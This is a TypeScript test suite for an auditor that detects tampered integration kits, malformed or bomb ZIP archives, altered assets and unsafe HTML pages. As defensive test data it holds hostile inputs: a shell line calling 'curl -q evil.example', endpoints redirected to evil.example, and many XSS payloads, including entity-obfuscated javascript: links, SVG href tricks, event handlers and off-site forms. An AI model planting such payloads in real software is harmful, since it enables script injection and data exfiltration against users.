/** Kits, assets and pages changed and signed again, with the kit's sums and the studio. */
import { readFileSync, rmSync } from "node:fs";
import path from "node:path";
import { buffer } from "node:stream/consumers";
import { beforeAll, describe, expect, it } from "vitest";
import yazl from "yazl";
import { RECIPE_IDS } from "../../../runtime/contract/recipe.ts";
import { readZip as readKit } from "../../../generator/verify/audit/zip.ts";
import { readZip } from "../../support/kits.ts";
import { nasty } from "../../support/nasty.ts";
import { checkedRegistry } from "../../support/registry.ts";
import { buildRelease } from "../../support/release.ts";
import { sha256 } from "../../support/sha256.ts";
import { fileSystem } from "../../../generator/effects/file-system.ts";
import { openDist } from "../../../generator/verify/audit/dist.ts";
import { checkPages } from "../../../generator/verify/audit/pages.ts";
import { Copy, faultsAfter, type Loose, STUDIO, type Tampering } from "../../support/tamper.ts";

const ID = "workflow-routing";
const KIT = `api/v1/integration-studio/kit/${ID}.zip`;

let dist: string;
beforeAll(async () => {
  dist = await buildRelease(checkedRegistry(nasty));
});

type Files = Map<string, Buffer>;

function swap(files: Files, name: string, ...[from, to]: [from: string | RegExp, to: string]): void {
  const before = files.get(name)?.toString() ?? "";
  const after = before.replace(from, to);
  if (after === before) throw new Error(`${name} has no ${String(from)}`);
  files.set(name, Buffer.from(after));
}

describe("a kit whose own sums hold", () => {
  it("is without a fault when nothing was changed in it", async () => {
    expect(await faultsAfter(dist, (copy) => copy.kit(ID, () => undefined))).toEqual([]);
  });

  const inside = (file: string, from: string | RegExp, to: string): Tampering => ({
    file,
    apply: (copy) => copy.kit(ID, (files) => swap(files, file, from, to)),
  });
  const added = (file: string): Tampering => ({
    file,
    apply: (copy) => copy.kit(ID, (files) => files.set(file, Buffer.from("x"))),
  });
  const removed = (file: string): Tampering => ({
    file,
    apply: (copy) => copy.kit(ID, (files) => files.delete(file)),
  });

  /** What no rule of the audit sees. */
  const REPRINTED = "is not the archive that this program makes of this registry";
  const ROWS: readonly (readonly [what: string, fault: string, change: Tampering])[] = [
    ["a program that sends data elsewhere", "python/handoff.py", inside("python/handoff.py", "https://registry.example/api", "https://evil.example/api")],
    ["a program that does one thing more", "python/handoff.py is not this version's program", inside("python/handoff.py", /$/, "import os\n")],
    ["a proxy that a program may use, named like the recipe", "curl/handoff.sh is not this version's program", inside("curl/handoff.sh", "--noproxy '*'", `--noproxy '${ID}*'`)],
    ["another classifier", "node/classify.mjs", inside("node/classify.mjs", "status !== 200", "status > 299")],
    ["a program less", "curl/handoff.sh is missing", removed("curl/handoff.sh")],
    ["a program more", "python/evil.py does not belong in a kit", added("python/evil.py")],
    ["a file more", "extra.txt does not belong in a kit", added("extra.txt")],
    ["a file less", "tool.json is missing", removed("tool.json")],
    ["another report", REPRINTED, inside("report.json", '"passed": true', '"passed": false')],
    ["another fixture", REPRINTED, inside("fixtures/unknown.json", '"outcome": "unknown"', '"outcome": "malformed"')],
    ["another tool", REPRINTED, inside("tool.json", '"version": "', '"version": "9')],
    ["a looser description", REPRINTED, inside("openapi.json", '"additionalProperties": false', '"additionalProperties": true')],
    ["a description that leaves a rule out", REPRINTED, inside("openapi.json", /,\s*"additionalProperties": false/, "")],
    ["no concept that its fixtures show", REPRINTED, inside("registry-excerpt.ndjson", /[^]+/, "")],
    ["a line behind its last one that does not end", REPRINTED, inside("registry-excerpt.ndjson", /$/, '{"code":"X-1"}')],
    ["a concept that is not published", REPRINTED, inside("registry-excerpt.ndjson", "Definition of", "definition of")],
    ["other words in its README", REPRINTED, inside("README.md", "Route on a candidate", "Never mind a candidate")],
    ["other words in its instructions", REPRINTED, inside("instructions.txt", "no secrets", "all secrets")],
    ["another live address", REPRINTED, inside("manifest.json", "/api/v1/resolve", "/api/v1/status")],
    ["another schema of its manifest", REPRINTED, inside("manifest.json", "/schemas/integration-kit", "/schemas/error")],
    ["a permission in its README", REPRINTED, inside("README.md", "grants no permission", "grants permission")],
    ["a permission in its instructions", REPRINTED, inside("instructions.txt", "grants no permission", "grants permission")],
    ["another origin", REPRINTED, inside("manifest.json", '"canonicalOrigin": "https://registry.example"', '"canonicalOrigin": "https://evil.example"')],
    ["another label", REPRINTED, inside("manifest.json", '"productVersion": "v22"', '"productVersion": "v23"')],
    ["another recipe", "manifest.json: another recipe", inside("manifest.json", `"recipeId": "${ID}"`, '"recipeId": "clarification"')],
    ["a command that is nothing in its manifest", "manifest.json: handoffs", inside("manifest.json", '"handoffs": [', '"handoffs": [null, ')],
    ["a member more in its manifest", 'manifest.json: it has the unknown property "x"', inside("manifest.json", "{", '{"x":1,')],
  ]; // prettier-ignore

  it.each(ROWS)("is found with %s", async (_what, fault, change) => {
    expect(await faultsAfter(dist, change.apply)).toContainEqual(expect.stringContaining(`${KIT}: ${fault}`));
  });

  it.each<[what: string, fault: string, change: (files: Files) => void]>([
    ["its live address", "python/handoff.py is not this version's program", (files) => swap(files, "python/handoff.py", "https://registry.example/api", "https://evil.example/api")],
    ["what its shell does besides", "curl/handoff.sh is not this version's program", (files) => swap(files, "curl/handoff.sh", "ask() {", "ask() {\n  curl -q evil.example")],
    ["its classifier", "curl/classify.awk is not this version's program", (files) => swap(files, "curl/classify.awk", '"abstained"', '"unsure"')],
    ["a module that Python could take for its own", "python/json.py does not belong in a kit", (files) => files.set("python/json.py", Buffer.from("import os\n"))],
    ["a hidden file", "node/.npmrc does not belong in a kit", (files) => files.set("node/.npmrc", Buffer.from(""))],
  ])("is found when %s is the same in all five", async (_what, fault, change) => {
    const faults = await faultsAfter(dist, async (copy) => {
      for (const id of RECIPE_IDS) await copy.kit(id, change);
    });
    expect(faults.filter((text) => text.endsWith(`: ${fault}`)).length).toBe(5);
  }); // prettier-ignore

  it("is found with another command in its manifest, which the studio lists too", async () => {
    const faults = await faultsAfter(dist, (copy) =>
      copy.kit(ID, (files) => swap(files, "manifest.json", '"python3"', '"evil"')),
    );
    expect(faults).toContainEqual(`${KIT}: ${REPRINTED}`);
  });

  it.each<[string, (said: Loose) => void]>([
    ["another command to prove", (said) => (said.handoffs[0].prove = ["sh", "-c", "echo proven"])],
    ["a live call where there should be none", (said) => said.handoffs[3].prove.push("--live")],
    ["another program", (said) => (said.handoffs[1].resolve[1] = "../handoff.mjs")],
    ["success for an abstention", (said) => (said.exitCodes.resolve[2].code = 0)],
    ["success for a fixture that is not as declared", (said) => (said.exitCodes.prove[1].code = 0)],
  ])("is found in each of the five when all and the studio say %s", async (_what, change) => {
    const faults = await faultsAfter(dist, async (copy) => {
      for (const id of RECIPE_IDS)
        await copy.kit(id, (files) => {
          const manifest = JSON.parse(files.get("manifest.json")?.toString() ?? "");
          change(manifest);
          files.set("manifest.json", Buffer.from(`${JSON.stringify(manifest, null, 2)}\n`));
        });
      copy.edit(STUDIO, change);
    });
    expect(faults.filter((text) => text.endsWith(REPRINTED)).length).toBe(5);
  }); // prettier-ignore
});

describe("a ZIP whose files are whole", () => {
  type Options = Parameters<InstanceType<typeof yazl.ZipFile>["addBuffer"]>[2];
  const DATE = new Date(2026, 8, 2, 12);

  async function packed(options: Options, add?: (zip: InstanceType<typeof yazl.ZipFile>) => void): Promise<Buffer> {
    const zip = new yazl.ZipFile();
    for (const { name, bytes } of await readZip(readFileSync(path.join(dist, KIT)))) {
      const mode = name.endsWith(".sh") ? 0o100755 : 0o100644;
      zip.addBuffer(bytes, name, {
        mtime: DATE,
        mode,
        compress: false,
        forceDosTimestamp: true,
        ...options,
      });
    }
    add?.(zip);
    zip.end();
    return buffer(zip.outputStream);
  }

  const faultOf = (zip: Buffer): string => {
    const files = readKit(zip, `service-semantics-${ID}/`);
    return typeof files === "string" ? files : "whole";
  };
  const more = (name: string) => (zip: InstanceType<typeof yazl.ZipFile>) =>
    zip.addBuffer(Buffer.from("x"), name, { mtime: DATE });

  it("is whole, packed in the same way", async () => {
    expect(faultOf(await packed({}))).toBe("whole");
    const faults = await faultsAfter(dist, async (copy) => copy.rawKit(ID, await packed({ compress: true })));
    expect(faults).toContainEqual(expect.stringMatching(/^api\/v1\/integration-studio\/kit\/.*: compressed$/));
  });

  it.each<[string, Parameters<typeof packed>, RegExp]>([
    ["compressed", [{ compress: true }], /: compressed$/],
    ["of another date", [{ mtime: new Date(2026, 8, 3, 12) }], /does not have the date of the release$/],
    ["of another mode", [{ mode: 0o100777 }], /another date, mode or flag/],
    ["with a time of another form", [{ forceDosTimestamp: false }], /another date, mode or flag/],
    ["with a folder", [{}, (zip) => zip.addEmptyDirectory(`service-semantics-${ID}/zz/`)], /not a plain name$/],
    ["with a file outside", [{}, more("zz")], /not in its folder$/],
    ["with files out of order", [{}, more(`service-semantics-${ID}/A`)], /not in byte order$/],
  ])("is found %s", async (_how, how, fault) => {
    expect(faultOf(await packed(...how))).toMatch(fault);
  });

  const kit = (): Buffer => Buffer.from(readFileSync(path.join(dist, KIT)));
  const centralOf = (zip: Buffer): number => zip.indexOf("PK\u0001\u0002", 0, "latin1");

  it.each<[string, (zip: Buffer) => number]>([
    ["before its first file", () => 0],
    ["before its second file", (zip) => zip.indexOf("PK\u0003\u0004", 4, "latin1")],
    ["before its directory", centralOf],
    ["before its end", (zip) => zip.length - 22],
    ["behind its end", (zip) => zip.length],
  ])("is found with bytes %s", (_where, at) => {
    const zip = kit();
    expect(faultOf(Buffer.concat([zip.subarray(0, at(zip)), Buffer.from("hidden"), zip.subarray(at(zip))]))).not.toBe("whole");
  }); // prettier-ignore

  it.each([4, 6, 8, 10, 12, 14, 18, 22, 26, 28])("is found with byte %i of a header changed", (at) => {
    const zip = kit();
    zip[at] = (zip[at] ?? 0) ^ 1;
    expect(faultOf(zip)).not.toBe("whole");
  });

  it.each([4, 38, 42, -12, -1])("is found with byte %i of its directory or end changed", (offset) => {
    const zip = kit();
    const at = offset < 0 ? zip.length + offset : centralOf(zip) + offset;
    zip[at] = (zip[at] ?? 0) ^ 1;
    expect(faultOf(zip)).not.toBe("whole");
  });

  it.each<[string, () => Buffer, RegExp]>([
    ["encrypted", () => { const zip = kit(); zip[6] = 1; return zip; }, /has flags other than/],
    ["cut short", () => kit().subarray(0, kit().length >> 1), /cut short|its directory is not/],
    ["a beginning", () => Buffer.from("PK\u0003\u0004", "latin1"), /its directory is not/],
    ["something else", () => Buffer.alloc(100_000, 0x50), /its directory is not/],
  ])("is found %s", (_what, zip, fault) => {
    expect(faultOf(zip())).toMatch(fault);
  }); // prettier-ignore

  it("is found as a bomb, without unpacking anything", async () => {
    const bomb = new yazl.ZipFile();
    bomb.addBuffer(Buffer.alloc(50_000_000), `service-semantics-${ID}/README.md`, { mtime: DATE });
    bomb.end();
    expect(faultOf(await buffer(bomb.outputStream))).toMatch(/: compressed$/);
  });
});

describe("assets and pages", () => {
  const faultsWith = (change: (copy: Copy) => void): Promise<string[]> => faultsAfter(dist, change);
  const asset = (copy: Copy, start: string): string =>
    copy.names().find((name) => name.startsWith(`assets/${start}.`)) ?? "";

  it("an asset that is changed is found by its name; under a new name by the pages that do not lead to it", async () => {
    const kept = await faultsWith((copy) => copy.write(asset(copy, "site"), "alert(1)"));
    expect(kept).toContainEqual(expect.stringMatching(/^assets\/site\..*: its name does not match its bytes$/));
    const named = await faultsWith((copy) => {
      const old = asset(copy, "classify");
      const made = `assets/classify.${sha256("alert(1)").slice(0, 16)}.js`;
      copy.write(made, "alert(1)");
      rmSync(copy.at(old));
      copy.replace("integration-studio.html", old, made);
    });
    expect(named).toContainEqual(expect.stringMatching(/^assets\/classify\..*: missing$/));
    // What scripts load when they need it.
    const removed = await faultsWith((copy) => rmSync(copy.at(asset(copy, "resolver"))));
    expect(removed).toContainEqual(
      expect.stringMatching(/^index\.html: links to \/assets\/resolver\..*, which does not exist$/),
    );
  });

  it.each<[string, string, "forbids" | "elsewhere" | "unclear"]>([
    ["a script of its own", "<script>alert(1)</script>", "forbids"],
    ["a script in capitals", "<SCRIPT>alert(1)</SCRIPT>", "forbids"],
    ["a script from elsewhere", '<script nonce type="module" src="https://evil.example/x.js"></script>', "elsewhere"],
    ["a script from elsewhere that another script loads", '<a data-script="//evil.example/x.js">x</a>', "elsewhere"],
    ["an event handler", '<p onclick="alert(1)">x</p>', "forbids"],
    ["a handler without quotes", "<img src=/x onerror=alert(1)>", "forbids"],
    ["a frame", '<iframe src="/answers"></iframe>', "forbids"],
    ["a redirect", '<meta http-equiv="refresh" content="0;url=https://evil.example">', "forbids"],
    ["a base", '<base href="https://evil.example/">', "forbids"],
    ["a form that sends elsewhere", '<form action="https://evil.example/x"></form>', "elsewhere"],
    ["an image from elsewhere", '<img src="//evil.example/x.png" alt="">', "elsewhere"],
    ["an image from elsewhere, with backslashes", "<img src='\\\\evil.example\\x.png' alt=''>", "elsewhere"],
    ["a style sheet from elsewhere", '<link nonce rel="stylesheet" href="https://evil.example/x.css">', "elsewhere"],
    ["a link that runs, in references", '<a href="&#0;jav&#x00061;script&colon;alert(1)">x</a>', "forbids"],
    ["a link that runs, in two lines", '<a href="java&Tab;\nscript:alert(1)">x</a>', "forbids"],
    ["a link of a drawing that runs", '<svg><a xlink:href="javascript:alert(1)">x</a></svg>', "forbids"],
    ["a link that a drawing changes", '<svg><set attributeName="href" to="//evil.example"/></svg>', "forbids"],
    ["a handler behind a sign that seems to end its tag", '<p title=">" onclick="alert(1)">x</p>', "forbids"],
    ["a style from elsewhere", '<div style="background:url(//evil.example/a)"></div>', "forbids"],
    ["a filling from elsewhere", '<svg><path fill="url(//evil.example/a#b)"/></svg>', "forbids"],
    ["a part of a drawing from elsewhere", '<svg><use href="//evil.example/x.svg#a"/></svg>', "elsewhere"],
    ["one in capitals, without quotes", "<svg><USE XLINK:HREF=&#47;/evil.example/x.svg#a></svg>", "elsewhere"],
    ["one of several pictures from elsewhere", '<img srcset="/a.png 1x, //evil.example/b.png 2x" alt="">', "elsewhere"],
    [
      "a style sheet from elsewhere, in references",
      '<link rel="&#115;tylesheet" href="&sol;/evil.example/x.css">',
      "elsewhere",
    ],
    ["a drawing's part within another tag", `<svg><use t=a"b c="> y=" z=<a href="//evil.example"></svg>`, "unclear"],
    ["a link that runs", '<a href="javascript:alert(1)">x</a>', "forbids"],
  ])("a page with %s is found, and so is the shell", (_what, html, kind) => {
    const fault = { forbids: /which the policy of pages forbids/, elsewhere: /which is not this service/, unclear: /can be read as another tag/ }[kind]; // prettier-ignore
    const copy = new Copy(dist);
    for (const name of ["index.html", "shell.html"]) copy.replace(name, "</main>", `${html}</main>`);
    const opened = openDist(fileSystem, copy.directory);
    opened.close();
    const faults = checkPages(opened, new Map());
    for (const name of ["index.html", "shell.html"])
      expect(faults.filter((text) => text.startsWith(`${name}: `) && fault.test(text))).not.toEqual([]);
  });

  it("a page of an owner's own is no fault: comments, styles, pictures, a script with a nonce, links to anywhere", async () => {
    const own =
      '<!-- ours --><p style="color:red">a <a href="https://owner.example/">b</a></p><svg viewBox="0 0 1 1"><path d="M0 0"/></svg>' +
      '<script nonce>for (i = 0; i<n; i++) title += " 1 < 2 <b x=" + i;</script><img alt="" src="/assets/none.svg?x"><img alt="" src="data.svg">' +
      "<code>const href = '/shop', id = 'x', action = '/go'</code>";
    const faults = await faultsWith((copy) => {
      for (const name of ["index.html", "answers.html"]) copy.replace(name, "</main>", `${own}</main>`);
    });
    expect(faults).toEqual([
      "answers.html: links to /assets/none.svg?x, which does not exist",
      "index.html: links to /assets/none.svg?x, which does not exist",
    ]);
  });

  it.each<[where: string, before: string, made: string]>([
    ["in an attribute", ' data-sha256="', ' data-sha256="'],
    ["in an attribute with spaces", ' data-sha256="', ' data-sha256 = "'],
    ["in an attribute behind a sign that seems to end the tag", ' data-sha256="', ' title=">" data-sha256="'],
    ["in the table", "<code>", "<code>"],
  ])("the studio's page with the digest of another kit %s is found", async (_where, before, made) => {
    const faults = await faultsWith((copy) =>
      copy.replace("integration-studio.html", before + sha256(copy.read(KIT)), made + "0".repeat(64)),
    );
    expect(faults).toEqual([expect.stringMatching(/^integration-studio\.html: shows another digest for .*\.zip$/)]);
  });
});
